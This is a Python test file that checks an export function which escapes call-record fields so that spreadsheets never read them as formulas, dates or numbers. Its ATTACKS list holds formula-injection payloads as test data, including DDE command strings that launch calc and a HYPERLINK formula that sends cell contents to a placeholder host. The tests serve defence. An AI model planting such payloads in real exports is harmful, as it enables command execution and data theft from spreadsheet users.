"""No text starts a formula, and none that is harmless is touched."""

import re
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aiosipcdr.export.formats.spreadsheet import spreadsheet_text

MONTHS = [
    "january",
    "february",
    "march",
    "april",
    "may",
    "june",
    "july",
    "august",
    "september",
    "october",
    "november",
    "december",
]
MONTH = "(?P<month>" + "|".join([*MONTHS, "sept", *(name[:3] for name in MONTHS)]) + ")"
YEAR = "(?P<year>[0-9]{2}|[0-9]{4})"
DATES = [
    re.compile(pattern, re.IGNORECASE)
    for pattern in (
        rf"(?P<number>1[0-2]|0?[1-9])[-/](?P<day>[0-9]{{1,2}})([-/]{YEAR})?",
        r"(?P<number>1[0-2]|0?[1-9])[-/](?P<year>[0-9]{4})",
        r"(?P<year>[0-9]{4})[-/](?P<number>[0-9]{1,2})[-/](?P<day>[0-9]{1,2})",
        rf"{MONTH}[- /.]*(?P<day>[0-9]{{1,2}})([- /,]+{YEAR})?",
        rf"(?P<day>[0-9]{{1,2}})[- /.]*{MONTH}([- /,]+{YEAR})?",
        rf"{MONTH}[- /,]+(?P<year>[0-9]{{4}})",
    )
]
NUMBER = re.compile(
    r"(?P<sign>[-+]?)\$?(?P<digits>[0-9]+|[0-9]{1,3}(?:,[0-9]{3})+)?(?P<part>\.[0-9]*)?(?P<exponent>E[-+]?[0-9]+)?%?",
    re.IGNORECASE,
)
TIME = re.compile(r"([0-9]{1,4})(:[0-9]{1,2}){1,2}(\.[0-9]+)?( ?[ap]m?)?|([0-9]{1,2}) ?[ap]m?", re.IGNORECASE)
FRACTION = re.compile(r"([0-9]+ +)[0-9]+/[0-9]+")
ENGLISH = {
    *("2610241209441000001", "1234567890123456", "123456789012345", "447700900123", "07700900123", "0012125550123"),
    *("00", "12E3", "1.5e10", "261024e1", "1,234", "5%", "$5", "(5)", "1 1/2", "+12125550123", "+447700900123"),
    *("06-8108", "MAR 3", "mar-3", "SEPT2", "1MAR", "3 March, 2026", "1/2", "10-1", "10:30", "1:2:3", "10 AM", "7p"),
    *("TRUE", " false "),
}


def opened_and_saved(field: str) -> str:
    """Return what Excel (English, United States) saves as CSV after it has opened `field`, with nothing edited.

    A field is read as if it were typed into a cell of the format General, and saved as the cell shows it: a number of
    12 digits or more as 1.23E+11, a date in the format that its cell gets. What is neither is text and stays.
    """
    text = field.strip(" ")
    if text.upper() in {"TRUE", "FALSE"}:
        return f"[truth] {text.upper()}"
    if text.startswith(("=", "+", "-", "@")) and not NUMBER.fullmatch(text):
        return "[formula]"
    for pattern in DATES:
        if found := pattern.fullmatch(text):
            parts = found.groupdict()
            month = parts.get("number") or 1 + [name[:3] for name in MONTHS].index(parts["month"][:3].lower())
            try:
                return f"[date] {date(int(parts.get('year') or 2026), int(month), int(parts.get('day') or 1)):%d-%b-%Y}"
            except ValueError:
                continue
    if TIME.fullmatch(text) or FRACTION.fullmatch(text):
        return "[time or fraction]"
    bare = text[1:-1] if text.startswith("(") and text.endswith(")") else text
    found = NUMBER.fullmatch(bare)
    if found is None or not (found["digits"] or (found["part"] or "") > "."):
        return field
    shown = f"{int((found['digits'] or '0').replace(',', ''))}{(found['part'] or '').rstrip('.0')}"
    if bare != text or found["exponent"] or "%" in text or "$" in text or "," in text or len(shown) > 11:
        return f"[shown otherwise] {shown[:7]}"
    return f"-{shown}" if found["sign"] == "-" else shown


@pytest.mark.parametrize("text", sorted(ENGLISH))
def test_excel_changes_these_cells_and_not_the_guarded_ones(text: str) -> None:
    assert opened_and_saved(text) != text
    assert opened_and_saved(spreadsheet_text(text)) == spreadsheet_text(text) == f"'{text}"


TRAPS = st.sampled_from(
    ["MAR", "sept", "0", "6", "-", "/", "8108", "+", " ", ":", "E", ".", ",", "am", "$", "%", "(", ")"]
)


@given(st.lists(TRAPS, max_size=6).map("".join) | st.from_regex(r"\+?[0-9]{1,20}", fullmatch=True))
def test_everything_survives_a_round_trip_through_excel(text: str) -> None:
    assert opened_and_saved(spreadsheet_text(text)) in {text, f"'{text}"}


ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    '+cmd|" /C calc"!A0',
    "+12125550123+cmd",
    "+44 7700 900123",
    "+1234567890123456",
    "+12345",
    "+12125550123",
    "+447700900123",
    "+86*********00",
    "-12125550123",
    "\tharmless",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '"=1+1',
    "\x01=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=",
    "+",
    "-",
    "@",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_never_starts(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text.replace("\0", "")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("x\t@SUM(1)", "x\t'@SUM(1)"),
        ("x\n=1+1\r\n-2", "x\n'=1+1\r\n'-2"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("x; =1+1", "x;' =1+1"),
        ("=a;=b", "'=a;'=b"),
        ('x;"=1+1', "x;'\"=1+1"),
    ],
)
def test_nor_where_a_field_would_begin_if_semicolons_split_fields(text: str, shown: str) -> None:
    assert spreadsheet_text(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        *("2610241209441000001", "1234567890123456", "123456789012345", "447700900123", "07700900123", "0012125550123"),
        *("00", "12E3", "1.5e10", "261024e1", "1,234", "1.5", "5%", "$5", "(5)", "1 1/2", "\uff11\uff12\uff13"),
        *("06-8108", "MAR 3", "mar-3", "SEPT2", "1MAR", "3 March, 2026", "1/2", "1.2.2026", "2026-10-01", "10-1"),
        *("5. Mai", "M\u00e4rz 3", "3 d\u00e9c", "3\u67085\u65e5", "10:30", "1:2:3", "10 AM", "7p", "TRUE", " false "),
    ],
)
def test_cells_that_excel_would_reinterpret_become_text(text: str) -> None:
    assert spreadsheet_text(text) == f"'{text}"
    assert opened_and_saved(text) != text or text not in ENGLISH
    assert opened_and_saved(f"'{text}") == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "12125550123",
        "200",
        "0",
        "60+60",
        "20+20",
        "Afghanistan(Kandahar)",
        "Berlin, -East",
        "a=b",
        "E164",
        "it's",
        "客服一组",
        "sip:100@example.invalid",
        "two\nlines",
        "",
        "sip101",
        "marketing 3",
        "team 1/2",
        "MAY",
        "sales-us",
        "12022022570cc2484c59d4f8b9745d34226285b1e.mp3",
    ],
)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert spreadsheet_text(text) == text
    assert opened_and_saved(text) == text


def test_an_apostrophe_that_was_there_is_not_taken_for_ours() -> None:
    assert spreadsheet_text("'06-8108") == "''06-8108"
    assert spreadsheet_text("'x;=1+1") == "''x;'=1+1"


signs = st.text(st.sampled_from("=+-@\t\r\n;, \"'0123456789aE*\0\ufeff\uff1d"), max_size=12)
STARTS = re.compile(r"[\s\ufeff\"]*[=+\-@\uff1d]")


@given(signs | st.text(st.characters(exclude_categories=["Cs"])))
def test_no_field_of_any_reading_starts_a_formula_and_nothing_else_is_changed(text: str) -> None:
    shown = spreadsheet_text(text)
    for field in re.split(r"[;\t\r\n]", shown):
        assert not STARTS.match(field)
    assert shown.replace("'", "") == text.replace("'", "").replace("\0", "")
    assert not shown or shown[0] not in "\t\r\n"
